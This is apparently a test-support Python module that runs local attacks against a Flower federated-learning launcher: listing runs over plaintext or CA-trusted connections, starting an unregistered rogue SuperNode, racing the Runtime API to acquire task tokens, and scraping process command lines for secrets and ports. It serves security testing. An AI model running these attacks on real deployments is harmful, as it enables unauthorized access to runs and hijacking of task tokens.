"""Attacks on a local federation's control plane, as a hostile local process would run them.

Self-contained on purpose (Flower, psutil and cryptography only, no ``coordinator`` import): the
same functions run against today's launcher and against the launcher before issue #16 (item 5),
which is how the report's before/after figures were taken. Each returns what the attacker got;
the tests decide what that must be.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import psutil

HOST = "127.0.0.1"


def flwr(name: str) -> str:
    cand = Path(sys.executable).with_name(name)
    return str(cand) if cand.exists() else name


def attacker_env(home: Path) -> dict:
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    return dict(
        os.environ, FLWR_HOME=str(home), PATH=path, FLWR_TELEMETRY_ENABLED="0", FLWR_DISABLE_UPDATE_CHECK="1"
    )


# -- a. a plaintext client on the control API -------------------------------------------------
def plaintext_list_runs(home: Path, port: int) -> subprocess.CompletedProcess:
    """``flwr ls`` through a connection with ``insecure = true`` (what every launcher's own
    client used before): lists the SuperLink's runs if the SuperLink speaks plaintext."""
    return _flwr_ls(home, f'address = "{HOST}:{port}"\ninsecure = true\n')


def tls_list_runs(home: Path, port: int, ca_cert: Path) -> subprocess.CompletedProcess:
    """``flwr ls`` over TLS pinning the federation's CA: what any network party that trusts the
    CA (every site does) could do against Flower's open-source Control API, which takes any
    caller, and so read every run and its log."""
    return _flwr_ls(home, f'address = "{HOST}:{port}"\nroot-certificates = "{ca_cert}"\n')


def _flwr_ls(home: Path, connection: str) -> subprocess.CompletedProcess:
    """``flwr ls`` as the attacker, with ``connection`` (the ``[superlink.x]`` table's lines) in
    its own ``FLWR_HOME``."""
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text(f'[superlink]\ndefault = "x"\n\n[superlink.x]\n{connection}')
    return subprocess.run(
        [flwr("flwr"), "ls", "x", "--format", "json"],
        env=attacker_env(home),
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )


# -- b. a SuperNode the operator never registered ---------------------------------------------
def rogue_supernode(
    folder: Path, port: int, *, ca_cert: Path | None, with_key: bool, log_name: str
) -> subprocess.Popen:
    """Start a SuperNode with a fresh, unregistered key (or none) against the SuperLink; with
    no CA given it tries plaintext, as it could before."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    folder.mkdir(parents=True, exist_ok=True)
    cmd = [
        flwr("flower-supernode"),
        "--superlink",
        f"{HOST}:{port}",
        "--host",
        HOST,
        "--port",
        str(_free_port()),
        "--node-config",
        'site="rogue"',
        "--max-retries",
        "3",
    ]
    if ca_cert is None:
        cmd.append("--insecure")
    else:
        cmd += ["--root-certificates", str(ca_cert)]
    if with_key:
        key = ec.generate_private_key(ec.SECP384R1())
        (folder / "rogue").write_bytes(
            key.private_bytes(
                serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
            )
        )
        cmd += ["--auth-supernode-private-key", str(folder / "rogue")]
    out = open(folder / f"{log_name}.log", "wb")
    env = attacker_env(folder / f"home-{log_name}")
    return subprocess.Popen(
        cmd, env=env, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, start_new_session=True
    )


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind((HOST, 0))
        return s.getsockname()[1]


# -- c. acquiring a task ahead of the executor -------------------------------------------------
@dataclass(frozen=True)
class AcquireResult:
    ok: bool  # the Runtime API answered the request
    task_type: str = ""  # a task was handed out (with its token) to the attacker
    run_id: int = 0
    token: str = ""
    error: str = ""


def _runtime_client(port: int, ca_cert: Path | None):
    from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
    from flwr.supercore.runtime import RuntimeHttpClient

    return RuntimeHttpClient.from_server_address(
        server_address=f"{HOST}:{port}",
        insecure=ca_cert is None,
        root_certificates=None if ca_cert is None else ca_cert.read_bytes(),
        interceptors=[RuntimeVersionHttpInterceptor(component_name="SuperExec")],
    )


def _acquire(client, task_type: str) -> AcquireResult:
    from flwr.proto.runtime_pb2 import AcquireTaskRequest

    try:
        res = client.AcquireTask(AcquireTaskRequest(supported_task_types=[task_type]))
    except Exception as e:  # noqa: BLE001 - any refusal is the attack failing
        return AcquireResult(ok=False, error=f"{type(e).__name__}: {e}"[:300])
    if res.HasField("task") and res.token:
        return AcquireResult(ok=True, task_type=task_type, run_id=res.task.run_id, token=res.token)
    return AcquireResult(ok=True)


def acquire_task(port: int, task_type: str, *, ca_cert: Path | None) -> AcquireResult:
    """``AcquireTask`` on a Runtime API (the SuperLink's or a SuperNode's) exactly as Flower's
    SuperExec calls it (``supercore/superexec/run_superexec.py``), minus the auth-secret
    interceptor the attacker does not have. With ``ca_cert`` the attacker even trusts the
    federation's CA; without, it speaks plaintext."""
    client = _runtime_client(port, ca_cert)
    try:
        return _acquire(client, task_type)
    finally:
        client.close()


def race_for_task(
    port: int,
    task_type: str,
    *,
    ca_cert: Path | None,
    seconds: float,
    poll_s: float = 0.01,
    started: "threading.Event | None" = None,
) -> AcquireResult:
    """Poll ``AcquireTask`` on one connection far faster than the SuperExec (every 1 s) until a
    task comes or time runs out; the first refusal ends the race. Start it before the run is
    submitted (``started`` is set once the first answer came)."""
    client = _runtime_client(port, ca_cert)
    deadline = time.monotonic() + seconds
    try:
        while True:
            last = _acquire(client, task_type)
            if started is not None:
                started.set()
            if not last.ok or last.token or time.monotonic() > deadline:
                return last
            time.sleep(poll_s)
    finally:
        client.close()


# -- d. secrets on command lines ---------------------------------------------------------------
TOKEN_FLAGS = ("--token",)


def cmdline_leaks(pids: list[int], secrets: list[bytes]) -> list[str]:
    """Every command line among ``pids`` and their descendants that carries a ``--token`` value
    or one of ``secrets`` (raw, hex or as text)."""
    needles = [s.decode("latin-1") for s in secrets] + [s.hex() for s in secrets]
    leaks = []
    for p in _tree(pids):
        try:
            cmd = p.cmdline()
        except psutil.Error:
            continue
        joined = " ".join(cmd)
        if any(a in TOKEN_FLAGS for a in cmd) or any(n and n in joined for n in needles):
            leaks.append(joined)
    return leaks


def runtime_ports(pids: list[int]) -> dict[str, int]:
    """The Runtime API ports the attacker reads off ``ps``: each SuperNode's ``--port``."""
    ports = {}
    for p in _tree(pids):
        try:
            cmd = p.cmdline()
        except psutil.Error:
            continue
        if any(c.endswith("flower-supernode") for c in cmd) and "--port" in cmd:
            site = re.search(r'site="([^"]+)"', " ".join(cmd))
            ports[site.group(1) if site else str(p.pid)] = int(cmd[cmd.index("--port") + 1])
    return ports


def _tree(pids: list[int]) -> list[psutil.Process]:
    out = []
    for pid in pids:
        try:
            root = psutil.Process(pid)
            out += [root, *root.children(recursive=True)]
        except psutil.NoSuchProcess:
            pass
    return out


# -- e. file modes -----------------------------------------------------------------------------
def loose_modes(folder: Path) -> list[str]:
    """Every file under ``folder`` not 0600 and every folder not 0700 (symlinks skipped)."""
    bad = []
    for root, dirs, files in os.walk(folder):
        for name, want in [(d, 0o700) for d in dirs] + [(f, 0o600) for f in files]:
            path = Path(root) / name
            if path.is_symlink():
                continue
            mode = path.stat().st_mode & 0o777
            if mode != want:
                bad.append(f"{oct(mode)} {path.relative_to(folder)}")
    mode = folder.stat().st_mode & 0o777
    if mode != 0o700:
        bad.append(f"{oct(mode)} .")
    return bad
